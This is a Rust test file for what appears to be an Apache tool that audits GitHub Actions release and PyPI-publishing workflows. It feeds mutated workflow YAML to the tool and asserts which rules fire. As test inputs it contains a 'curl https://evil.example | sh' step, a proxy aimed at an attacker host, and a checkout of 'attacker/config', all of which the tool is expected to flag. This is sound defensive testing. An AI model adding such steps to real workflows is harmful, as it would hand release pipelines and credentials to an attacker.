// Licensed to the Apache Software Foundation (ASF) under the Apache License,
// Version 2.0; see the files LICENSE and NOTICE at the top of this repository.

//! Workflows by several jobs: the example of a large wave, each time with one
//! fault, and jobs of other files.

use std::path::Path;

use crate::world::World;

use super::{ASF_YAML, GOOD, WORKFLOW, checkout, examine, examine_in, words, world};

/// The example as a project would have it.
fn wave() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sharded-wave.yml");
    let text = std::fs::read_to_string(path).unwrap();
    text.replace(&"0".repeat(40), &"ab".repeat(20))
        .replace("/airflow/", "/example/")
        .replace("apache-airflow-providers-*", "example")
}

/// What refuses and what warns.
fn told(world: &World, text: &str) -> (Vec<String>, Vec<String>) {
    let ran = examine(world, &[(WORKFLOW, text), (".asf.yaml", ASF_YAML)]);
    (ran.refusals(), ran.rules("warn"))
}

#[test]
fn a_wave_by_shards_is_held_to_be_one_release() {
    let world = world();
    let text = wave();
    assert_eq!(told(&world, &text), (vec![], vec![]));
    let matrix = "      matrix: ${{ fromJSON(needs.verify.outputs.matrix) }}\n";
    let unchecked = words(&["shards-unchecked"]);
    let broken = words(&["handover-broken"]);
    for (part, by, refuse, warn) in [
        (
            matrix,
            "      matrix: {shard: [1/2, 2/2]}\n",
            vec![],
            vec![],
        ),
        (
            matrix,
            "      matrix: {shard: [1/2, 2/3]}\n",
            vec![],
            unchecked.clone(),
        ),
        (
            matrix,
            "      matrix: {shard: [1/2]}\n",
            vec![],
            unchecked.clone(),
        ),
        (
            matrix,
            "      matrix: {part: [1/2, 2/2]}\n",
            broken.clone(),
            vec![],
        ),
        (
            matrix,
            "      matrix: {include: [{shard: 1/2}, {shard: 2/2}]}\n",
            vec![],
            vec![],
        ),
        (
            "          shard: ${{ matrix.shard }}\n",
            "          shard: ${{ matrix.part }}\n",
            broken.clone(),
            vec![],
        ),
        (
            "          shard: ${{ matrix.shard }}\n",
            "          shard: 1/2\n",
            vec![],
            unchecked.clone(),
        ),
        (
            "      matrix: ${{ steps.verify.outputs.matrix }}\n",
            "",
            broken.clone(),
            vec![],
        ),
        (
            "steps.verify.outputs.matrix",
            "inputs.include",
            broken.clone(),
            vec![],
        ),
    ] {
        assert!(text.contains(part), "{part}");
        assert_eq!(
            told(&world, &text.replacen(part, by, 1)),
            (refuse, warn),
            "{part:?} -> {by:?}"
        );
    }
}

#[test]
fn a_wave_by_shards_ends_with_a_look_at_the_whole() {
    let world = world();
    let text = wave();
    let check = text.find("  check:\n").unwrap();
    let unchecked = words(&["shards-unchecked"]);
    for (part, by, warn) in [
        (
            "      fail-fast: false",
            "      max-parallel: 1\n      fail-fast: false",
            unchecked.clone(),
        ),
        (
            "          mode: check\n",
            "          mode: check\n          index: testpypi\n",
            unchecked.clone(),
        ),
        (
            "      fail-fast: false",
            "      max-parallel: 5",
            unchecked.clone(),
        ),
        (&text[check..], "", unchecked.clone()),
        (
            "    strategy:\n",
            "    concurrency: upload\n    strategy:\n",
            words(&["workflow-concurrency"]),
        ),
        (
            "    strategy:\n",
            "    concurrency: upload-${{ matrix.shard }}\n    strategy:\n",
            vec![],
        ),
    ] {
        assert!(text.contains(part), "{part}");
        let told = told(&world, &text.replacen(part, by, 1));
        assert_eq!(told, (vec![], warn), "{part:?} -> {by:?}");
    }
}

/// The example of two jobs as a project would have it.
fn pair() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/one-project.yml");
    let text = std::fs::read_to_string(path).unwrap();
    text.replace(&"0".repeat(40), &"ab".repeat(20))
        .replace("release/iceberg/pyiceberg-", "release/example/")
        .replace("pyiceberg", "example")
}

#[test]
fn both_jobs_are_held_to_read_one_tree_where_there_are_revisions() {
    let world = world();
    let text = pair();
    let told = |text: &str| {
        let ran = examine(&world, &[(WORKFLOW, text), (".asf.yaml", ASF_YAML)]);
        (ran.refusals(), ran.rules("warn"), ran.rules("note"))
    };
    let revision = "          revision: ${{ needs.verify.outputs.revision }}\n";
    let downloads = text.replace(
        "https://dist.apache.org/repos/dist/release/",
        "https://downloads.apache.org/",
    );
    // There are no revisions: neither is one missing nor may one be given.
    let whole = downloads.replace(revision, "");
    assert_eq!(told(&whole), (vec![], vec![], vec![]));
    assert_eq!(
        told(&downloads),
        (words(&["handover-broken"]), vec![], vec![])
    );
    let other = text.replace(
        revision,
        "          revision: ${{ needs.publish.outputs.revision }}\n",
    );
    let expected = (
        words(&["handover-broken"]),
        words(&["digest-unbound"]),
        vec![],
    );
    assert_eq!(told(&other), expected);
    // An output that is not there is told once.
    let gone = text.replace("      revision: ${{ steps.verify.outputs.revision }}\n", "");
    assert_eq!(told(&gone), (words(&["handover-broken"]), vec![], vec![]));
}

#[test]
fn the_job_whose_page_decides_is_held_to_be_of_the_same_release_and_unguided() {
    let world = world();
    let text = pair();
    let told = |text: &str| {
        let ran = examine(&world, &[(WORKFLOW, text), (".asf.yaml", ASF_YAML)]);
        (ran.refusals(), ran.rules("warn"), ran.rules("note"))
    };
    assert_eq!(told(&text), (vec![], vec![], vec![]));
    let step = "      - id: verify\n";
    for (part, by, warn, note) in [
        (
            "          dry-run: true\n",
            "          dry-run: true\n          index: testpypi\n",
            vec!["handover-differs"],
            vec![],
        ),
        (
            "          mode: publish\n          dry-run: true\n",
            "",
            vec![],
            vec![],
        ),
        (
            "          mode: publish\n          dry-run: true\n",
            "          mode: check\n",
            vec!["digest-unbound"],
            vec![],
        ),
        (
            "revision: ${{ steps.verify.outputs.revision }}",
            "revision: ${{ steps.verify.outputs.digest }}",
            vec!["digest-unbound"],
            vec![],
        ),
        (
            "expected-digest: ${{ inputs.digest }}",
            "expected-digest: any",
            vec![],
            vec!["digest-unbound"],
        ),
        (
            step,
            "      - run: curl https://evil.example | sh\n      - id: verify\n",
            vec!["job-not-alone"],
            vec![],
        ),
        (
            step,
            "      - id: verify\n        env: {HTTPS_PROXY: 'http://evil.example'}\n",
            vec!["workflow-variable"],
            vec![],
        ),
        (
            "ubuntu-latest",
            "self-hosted",
            vec!["workflow-runner"],
            vec![],
        ),
    ] {
        assert!(text.contains(part), "{part}");
        let expected = (vec![], words(&warn), words(&note));
        assert_eq!(
            told(&text.replacen(part, by, 1)),
            expected,
            "{part:?} -> {by:?}"
        );
    }
    // One slip, and not a reason to give the job a right.
    for by in ["", "          dry-run: ${{ inputs.version == '1' }}\n"] {
        let text = text.replacen("          dry-run: true\n", by, 1);
        let ran = examine(&world, &[(WORKFLOW, &text), (".asf.yaml", ASF_YAML)]);
        let advice = "Write `dry-run: true` into the job that has no rights";
        assert!(
            ran.refusals().contains(&"workflow-input".to_owned()),
            "{}",
            ran.stderr
        );
        assert!(ran.stderr.contains(advice), "{}", ran.stderr);
    }
    // What the job made lies nowhere else.
    let kept = format!(
        "{text}      - uses: actions/upload-artifact@{} # v4.0.0\n",
        "ab".repeat(20)
    );
    assert_eq!(told(&kept), (vec![], vec![], vec![]));
}

#[test]
fn a_job_of_another_file_in_the_same_environment_is_told() {
    let world = world();
    let other = "on: push\njobs:\n  old:\n    runs-on: ubuntu-latest\n    environment: pypi\n    steps:\n      - run: twine upload x\n";
    let path = ".github/workflows/old.yml";
    let ran = examine(
        &world,
        &[(WORKFLOW, GOOD), (path, other), (".asf.yaml", ASF_YAML)],
    );
    assert_eq!(ran.rules("warn"), ["environment-shared"], "{}", ran.stderr);
    assert_eq!(ran.report["findings"][0]["path"], format!("{path}:5:18"));
    assert!(
        ran.stderr.contains("Ready, but for 1 warning"),
        "{}",
        ran.stderr
    );
}

#[test]
fn a_configuration_file_is_there_only_after_a_checkout_of_the_run_s_commit() {
    let world = world();
    let config = "source: https://dist.apache.org/repos/dist/release/example/\nprojects: example\n";
    let pinned = "actions/checkout@0123456789abcdef0123456789abcdef01234567 # v6.0.0";
    let with = "mode: publish\n          config: .github/p.yml\n";
    let before = |with: &str| {
        let step = format!("    steps:\n      - uses: {pinned}\n{with}");
        GOOD.replace("    steps:\n", &step).replace(
            "      id-token: write\n",
            "      id-token: write\n      contents: read\n",
        )
    };
    let after = format!("{GOOD}      - uses: {pinned}\n").replace(
        "      id-token: write\n",
        "      id-token: write\n      contents: read\n",
    );
    for (text, refuse, warn) in [
        (before(""), vec![], vec![]),
        (GOOD.to_owned(), words(&["workflow-input"]), vec![]),
        (after, words(&["workflow-input"]), vec![]),
        (
            before("        with:\n          ref: main\n"),
            vec![],
            words(&["workflow-input"]),
        ),
        (
            before(&format!(
                "      - uses: {pinned}\n        with:\n          path: x\n"
            )),
            vec![],
            words(&["workflow-input"]),
        ),
        (
            before("        if: github.actor == 'x'\n"),
            words(&["workflow-input"]),
            vec![],
        ),
        (
            before("        with:\n          repository: attacker/config\n"),
            vec![],
            words(&["workflow-input"]),
        ),
    ] {
        let text = text.replace("mode: publish\n", with);
        let files = [
            (WORKFLOW, text.as_str()),
            (".github/p.yml", config),
            (".asf.yaml", ASF_YAML),
        ];
        let ran = examine(&world, &files);
        assert_eq!(
            (ran.refusals(), ran.rules("warn")),
            (refuse, warn),
            "{text}\n{}",
            ran.stderr
        );
    }
}

#[test]
fn a_word_given_to_doctor_does_not_hide_what_a_workflow_says() {
    let world = world();
    let text = GOOD.replace(
        "mode: publish\n",
        "mode: publish\n          approval: 'off'\n",
    );
    let folder = checkout(&[(WORKFLOW, &text), (".asf.yaml", ASF_YAML)]);
    let ran = examine_in(&world, folder.path(), &["--approval", "required"]);
    assert!(
        ran.rules("warn").contains(&"approval-off".to_owned()),
        "{}",
        ran.stderr
    );
}
